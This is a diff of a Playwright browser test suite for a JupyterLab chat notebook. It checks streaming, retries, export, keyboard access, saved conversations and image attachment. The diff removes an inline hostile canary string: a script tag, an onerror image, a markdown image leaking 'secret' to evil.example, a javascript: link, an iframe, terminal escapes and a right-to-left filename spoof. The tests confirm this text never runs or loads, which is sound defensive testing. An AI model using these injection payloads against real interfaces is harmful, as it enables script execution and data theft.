@@ -1,11 +1,19 @@
 """The chat notebook in real JupyterLab, driven like a person drives it."""
 
 import asyncio
+import json
+import re
 import time
+from pathlib import Path
 
-from playwright.async_api import expect
+import pytest
+from PIL import Image
+from playwright.async_api import Locator, expect
 
-from tests.browser.panel import Measure, Opened
+from tests.browser.golden import assert_tree
+from tests.browser.lab import Lab
+from tests.browser.panel import SCREENSHOTS, Measure, Opened
+from tests.support.canaries import ARABIC, HOSTILE, LONG_LINE, SPLIT, SPLIT_TOGETHER
 from tests.support.endpoint import (
     MODEL,
     Answer,
@@ -14,6 +22,8 @@ from tests.support.endpoint import (
     Pause,
     Received,
     ScriptedEndpoint,
+    Step,
+    Think,
     words,
 )
 
@@ -30,14 +40,6 @@ endpoint = await connect("local")
 ```
 """
 HAIKU = "Quiet fans at night,\nan hour of borrowed silicon –\nwords arrive like rain."
-HOSTILE = """<script>window.hacked = 1</script>
-<img src="http://evil.example/a.png" onerror="window.hacked = 2">
-
-![secret](http://evil.example/leak?q=secret) [click](javascript:window.hacked=3)
-[more](http://evil.example/page) <http://evil.example/auto>
-
-<iframe src="http://evil.example"></iframe> \x1b[31mred\x1b]0;title\x07 \u202egnp.exe\u202c
-"""
 
 
 def script(received: Received) -> Answer:
@@ -46,13 +48,23 @@ def script(received: Received) -> Answer:
         return words(HAIKU, first_s=0.2, gap_s=0.02)
     if "hold" in prompt:
         return Answer(["This part came", " before the stop.", Hold()])
-    if "slow" in prompt:
-        return Answer([Pause(2.0), "late"])
     if "busy" in prompt:
         return Answer(status=503, error="server busy", headers={"retry-after": "3"})
     if "hostile" in prompt:
-        return Answer([HOSTILE, "x" * 4_000, " the end"])
+        return Answer([Think(HOSTILE), HOSTILE, "x" * 4_000, " the end"])
+    if "megabyte" in prompt:
+        return Answer([LONG_LINE])
+    if "split" in prompt:
+        return Answer([*SPLIT, "\n\n", ARABIC])
     return words(EXPLANATION, first_s=0.1, gap_s=0.005)
+
+
+@pytest.fixture
+def picture_file(tmp_path: Path) -> Path:
+    """A small picture."""
+    path = tmp_path / "sky.png"
+    Image.new("RGB", (320, 200), (90, 140, 220)).save(path)
+    return path
 
 
 async def test_a_conversation(opened: Opened) -> None:
@@ -66,7 +78,11 @@ async def test_a_conversation(opened: Opened) -> None:
     server = ScriptedEndpoint(gated)
     async with server:
         await opened.open(
-            NOTEBOOK, url=server.url, model=MODEL, first_message="Write a haiku about renting."
+            NOTEBOOK,
+            url=server.url,
+            model=MODEL,
+            first_message="Write a haiku about renting.",
+            usd_per_hour=0.36,
         )
         await opened.wait_for_figures(1)
         await opened.say("What decides what my own endpoint costs?")
@@ -75,8 +91,15 @@ async def test_a_conversation(opened: Opened) -> None:
         await expect(reply.locator("strong")).to_have_count(3)
         await expect(reply.locator("pre")).to_have_text('endpoint = await connect("local")\n')
         await expect(reply.locator(".akl-facts")).to_contain_text("tok/s")
+        await expect(reply.locator(".akl-facts")).to_contain_text("at most $0.0000")
         await expect(opened.line).to_have_value("")
         assert await _is_at_its_end(opened)
+        await opened.picture("chat-light")
+        if SCREENSHOTS:
+            await opened.use_theme("JupyterLab Dark")
+            await opened.picture("chat-dark")
+            await opened.use_theme("JupyterLab Light")
+        await assert_tree(opened, "chat")
 
         await opened.button("Retry").click()
         # Held back until the browser shows that the second reply is being made again.
@@ -85,6 +108,20 @@ async def test_a_conversation(opened: Opened) -> None:
         await opened.wait_for_figures(2)
         assert len(server.generations()) == 3
         assert server.generations()[2].body == server.generations()[1].body
+
+        await opened.button("Copy, export").click()
+        text = opened.field("Text to copy")
+        await opened.field("Copy").select_option("code block 1 (python)")
+        await expect(text).to_have_value('endpoint = await connect("local")\n')
+        await opened.field("Copy").select_option("this request as code: openai")
+        await expect(text).to_have_value(re.compile("import openai"))
+        await opened.picture("chat-takeaway")
+        await assert_tree(opened, "chat-takeaway", ".akl-settings >> nth=0")
+        await opened.button("Export to Markdown").click()
+        await expect(opened.status).to_contain_text("Written to")
+        written = Path((await opened.status.inner_text()).removeprefix("Written to "))
+        assert "three numbers decide" in written.read_text(encoding="utf-8")
+        await opened.button("Copy, export").click()
 
         await opened.button("Edit last").click()
         await expect(opened.line).to_have_value("What decides what my own endpoint costs?")
@@ -103,7 +140,13 @@ async def test_a_conversation(opened: Opened) -> None:
 async def test_text_is_seen_while_it_streams_and_stop_frees_the_slot(
     opened: Opened, measured: Measure
 ) -> None:
-    async with ScriptedEndpoint(script) as server:
+    gate = asyncio.Event()
+
+    def gated(received: Received) -> Answer:
+        is_slow = received.body["messages"][-1]["content"] == "a slow one"
+        return Answer([Gate(gate), "late"]) if is_slow else script(received)
+
+    async with ScriptedEndpoint(gated) as server:
         await opened.open(NOTEBOOK, url=server.url, model=MODEL)
         await opened.wait_for_figures(1)
         await opened.say("please hold the line")
@@ -116,49 +159,181 @@ async def test_text_is_seen_while_it_streams_and_stop_frees_the_slot(
         await expect(opened.replies.nth(1)).to_contain_text("stopped")
         await expect(opened.replies.nth(1)).to_contain_text("This part came before the stop.")
         await opened.say("a slow one")
-        await expect(opened.replies.nth(2)).to_contain_text("waiting for first token… 1.")
+        await expect(opened.replies.nth(2)).to_contain_text("waiting for first token… 0.")
+        gate.set()
         await opened.wait_for_figures(2)
         await opened.say("busy?")
         await expect(opened.replies.nth(3)).to_contain_text("Error: server busy.")
         await expect(opened.replies.nth(3)).to_contain_text("try again in 3 s")
+        await expect(opened.page.get_by_text("HTTP status: 503")).to_be_hidden()
+        await opened.page.get_by_text("Details").click()
+        await expect(opened.page.get_by_text("HTTP status: 503")).to_be_visible()
         await opened.button("Settings").click()
         await opened.picture("chat-states")
+        await assert_tree(opened, "chat-settings", ".akl-settings >> nth=1")
+
+
+async def test_nothing_jumps_while_a_reply_streams(opened: Opened, measured: Measure) -> None:
+    first, rest = asyncio.Event(), asyncio.Event()
+    thought: list[Step] = [Think("Let me see. "), Think("Nearly. ")]
+    lines: list[Step] = [step for n in range(40) for step in (f"- line {n}\n", Pause(0.02))]
+
+    def gated(received: Received) -> Answer:
+        if received.body["messages"][-1]["content"] != "long":
+            return words("a short reply\n\n" * 30)
+        return Answer([*thought, Gate(first), "canary\n\n", Gate(rest), *lines])
+
+    async with ScriptedEndpoint(gated) as server:
+        await opened.open(NOTEBOOK, url=server.url, model=MODEL)
+        await opened.wait_for_figures(1)
+        await opened.say("long")
+        await opened.button("Show thinking").click()
+        thinking = opened.page.locator(".akl-thinking")
+        await expect(thinking).to_have_text("Let me see. Nearly. ")
+        await opened.evaluate(SEEN)
+        emitted = time.time()
+        first.set()
+        await expect(opened.replies.nth(1)).to_contain_text("canary")
+        seen = await opened.evaluate("window.seenAt") / 1e3
+        measured("First token emitted to seen (goal 150 ms)", 1e3 * (seen - emitted))
+        assert await _is_at_its_end(opened)
+        await opened.evaluate("document.querySelector('.akl-log').scrollTop = -300")
+        height = "document.querySelector('.akl').getBoundingClientRect().height"
+        top = "document.querySelectorAll('.akl-reply p')[20].getBoundingClientRect().top"
+        before = await opened.evaluate(top), await opened.evaluate(height)
+        rest.set()
+        await expect(opened.replies.nth(1)).to_contain_text("line 20")
+        during = await opened.evaluate(top), await opened.evaluate(height)
+        await opened.wait_for_figures(2)
+        assert before == during == (await opened.evaluate(top), await opened.evaluate(height))
+        await expect(thinking).to_be_visible()
+        await expect(opened.button("Hide thinking")).to_be_visible()
 
 
 async def test_hostile_text_runs_and_loads_nothing(opened: Opened) -> None:
     async with ScriptedEndpoint(script) as server:
         await opened.open(NOTEBOOK, url=server.url, model=MODEL, first_message="be hostile")
         await opened.wait_for_figures(1)
-        reply = opened.replies.first
-        await expect(reply).to_contain_text("<script>window.hacked = 1</script>")
-        await expect(reply).to_contain_text("the end")
-        await expect(reply.locator("p")).to_have_count(3)
-        assert await opened.evaluate("window.hacked") is None
-        count = (
-            "document.querySelectorAll('.akl-reply :is(script,img,iframe,a,object,embed)').length"
-        )
-        assert await opened.evaluate(count) == 0
-        text = await reply.inner_text()
-        assert "\x1b" not in text and "\u202e" not in text
-        wide = "document.querySelector('.akl-reply').scrollWidth"
-        assert await opened.evaluate(f"{wide} <= document.querySelector('.akl').clientWidth")
+        await opened.button("Show thinking").click()
+        await assert_harmless(opened)
+        await opened.say("split")
+        await opened.wait_for_figures(2)
+        await expect(opened.replies.nth(1)).to_contain_text(SPLIT_TOGETHER)
+        await expect(opened.replies.nth(1)).to_contain_text(ARABIC)
+        await opened.button("Several lines").click()
+        await opened.page.get_by_placeholder("Message of several lines").fill(f"megabyte {HOSTILE}")
+        await opened.button("Send").click()  # which must not overtake the text
+        await opened.wait_for_figures(3)
+        await expect(opened.replies.nth(2)).to_contain_text("characters before this are not shown")
+        await opened.button("Copy, export").click()
         await opened.picture("chat-hostile")
+        await assert_harmless(opened)
 
 
-async def test_the_keyboard_reaches_every_control_in_the_order_of_sight(opened: Opened) -> None:
+async def test_a_conversation_survives_its_kernel_and_the_keyboard_is_enough(
+    opened: Opened, lab: Lab
+) -> None:
+    folder = lab.folder / "kept"
     async with ScriptedEndpoint(script) as server:
+        await opened.open(NOTEBOOK, url=server.url, model=MODEL, conversations="kept")
+        await opened.wait_for_figures(1)
+        assert not folder.exists()  # only code has asked
+        await opened.line.focus()
+        await _press(opened, "Write a haiku.", "Enter")
+        await opened.wait_for_figures(2)
+        await opened.line.focus()
+        names = [await _tab(opened) for _ in range(7)]
+        assert names == [
+            *("Send", "Retry", "Edit last", "Clear", "Several lines", "Copy, export", "Settings")
+        ]
+        await opened.page.keyboard.press("Enter")
+        await expect(opened.field("System prompt")).to_be_visible()
+        for label in ("Model", "System prompt", "Temperature", "Max tokens", "Seed"):
+            await expect(opened.field(label)).to_be_visible()
+        await opened.page.keyboard.press("Enter")
+
+        await opened.field("Conversation").focus()
+        assert [await _tab(opened) for _ in range(3)] == ["New", "Rename", "Delete"]
+        await opened.page.keyboard.press("Shift+Tab")
+        await opened.page.keyboard.press("Enter")
+        await expect(opened.field("New title")).to_be_focused()
+        await opened.page.keyboard.press("Control+a")
+        await _press(opened, "About rain", "Tab")
+        await opened.page.keyboard.press("Enter")  # on Save, which must not overtake the text
+        chosen = opened.field("Conversation").locator("option:checked")
+        await expect(chosen).to_have_text("About rain")
+
+        await opened.restart_and_run()
+        await opened.wait_for_figures(1)
+        await opened.choose("Conversation", "About rain · ")
+        await opened.wait_for_figures(2)
+        await expect(opened.replies.nth(1)).to_contain_text("borrowed silicon")
+        await opened.say("and now?")
+        await opened.wait_for_figures(3)
+        sent = server.generations()[-1].body["messages"]
+        assert [message["role"] for message in sent] == ["user", "assistant"] * 2 + ["user"]
+        (kept,) = folder.glob("*.json")
+        assert kept.stat().st_mode & 0o777 == 0o600
+        assert len(json.loads(kept.read_text())["turns"]) == 3
+
+        await opened.button("Delete").click()
+        await expect(opened.button("Cancel")).to_be_focused()
+        await opened.page.keyboard.press("Shift+Tab")
+        await opened.page.keyboard.press("Enter")
+        await expect(opened.replies).to_have_count(0)
+        assert list(folder.glob("*.json")) == []
+
+
+async def test_a_model_that_sees_is_shown_a_picture(opened: Opened, picture_file: Path) -> None:
+    async with ScriptedEndpoint(script) as server:
+        server.capabilities = ["completion", "vision"]
         await opened.open(NOTEBOOK, url=server.url, model=MODEL)
         await opened.wait_for_figures(1)
-        await opened.line.focus()
-        names = []
-        for _ in range(6):
-            await opened.page.keyboard.press("Tab")
-            names.append(await opened.evaluate("document.activeElement.textContent.trim()"))
-        assert names == ["Send", "Retry", "Edit last", "Clear", "Several lines", "Settings"]
-        await opened.page.keyboard.press("Enter")
-        await expect(opened.page.get_by_label("System prompt")).to_be_visible()
-        for label in ("Model", "System prompt", "Temperature", "Max tokens", "Seed"):
-            await expect(opened.page.locator(".akl").get_by_label(label)).to_be_visible()
+        async with opened.page.expect_file_chooser() as chooser:
+            await opened.page.get_by_role("button", name="Attach picture").click()
+        await (await chooser.value).set_files(picture_file)
+        await expect(opened.page.get_by_text("Attached: sky.png")).to_be_visible()
+        await opened.say("What is it?")
+        await opened.wait_for_figures(2)
+        await expect(opened.page.get_by_role("img", name="sky.png")).to_be_visible()
+        assert len(server.generations()[-1].body["messages"][-1]["images"]) == 1
+        await opened.picture("chat-picture")
+
+
+SEEN = """(() => {
+  const log = document.querySelector('.akl-log');
+  new MutationObserver((_, observer) => {
+    if (log.textContent.includes('canary')) { window.seenAt = Date.now(); observer.disconnect(); }
+  }).observe(log, {subtree: true, childList: true, characterData: true});
+})()"""
+MADE_BY_TEXT = "document.querySelectorAll('.akl-msg :is(script,img,iframe,a,object,embed)').length"
+
+
+async def assert_harmless(opened: Opened) -> None:
+    """Nothing of the first reply, which is hostile, ran or loaded or is wider than the panel."""
+    reply = opened.replies.first
+    await expect(reply).to_contain_text("the end")
+    await expect(reply).to_contain_text("<script>window.hacked = 1</script>")
+    thinking: Locator = opened.page.locator(".akl-thinking")
+    await expect(thinking).to_contain_text("<script>window.hacked = 1</script>")
+    assert await opened.evaluate("window.hacked") is None
+    assert await opened.evaluate(MADE_BY_TEXT) == 0
+    text = await opened.page.locator(".akl").inner_text()
+    assert "\x1b" not in text and "\u202e" not in text
+    wide = "document.querySelector('.akl-reply').scrollWidth"
+    assert await opened.evaluate(f"{wide} <= document.querySelector('.akl').clientWidth")
+
+
+async def _press(opened: Opened, text: str, key: str) -> None:
+    """Type where the focus is, then a key."""
+    await opened.page.keyboard.type(text)
+    await opened.page.keyboard.press(key)
+
+
+async def _tab(opened: Opened) -> str:
+    """The text of what Tab goes to."""
+    await opened.page.keyboard.press("Tab")
+    return str(await opened.evaluate("document.activeElement.textContent.trim()"))
 
 
 async def _is_at_its_end(opened: Opened) -> bool:
